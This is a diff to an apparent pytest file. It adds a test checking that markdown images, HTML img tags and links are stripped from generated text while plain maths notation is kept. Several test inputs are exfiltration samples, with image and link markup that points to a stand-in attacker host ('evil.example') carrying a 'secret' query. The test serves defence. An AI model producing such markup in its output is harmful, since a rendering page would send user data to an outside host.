@@ -126,3 +126,17 @@ def test_the_schema_lets_through_no_other_number(passages: int, text: str, numbe
     written = constrained(statements((text, numbers)), schema(passages))
     [one] = json.loads(written)["statements"]
     assert one["notes"] and all(1 <= number <= passages for number in one["notes"])
+
+
+@pytest.mark.parametrize(
+    ("written", "read"),
+    [
+        ("![x](http://evil.example/?q=secret) It is broken.", "It is broken."),
+        ("<img src='http://evil.example/?q=secret'> It is **broken**.", "It is broken."),
+        ("[It](http://evil.example) is broken.", "It is broken."),
+        ("The softmax of QK^T / d_k, 3 * 4 < 13 and a_b.", "The softmax of QK^T / d_k, 3 * 4 < 13 and a_b."),
+    ],
+)
+def test_markup_that_a_page_would_follow_is_left_out(written: str, read: str) -> None:
+    assert _in_json([statements((written, [1]))])[0] == [Draft(read, (1,))]
+    assert _in_lines([f"{written} [1]\n"])[0] == [Draft(read, (1,))]
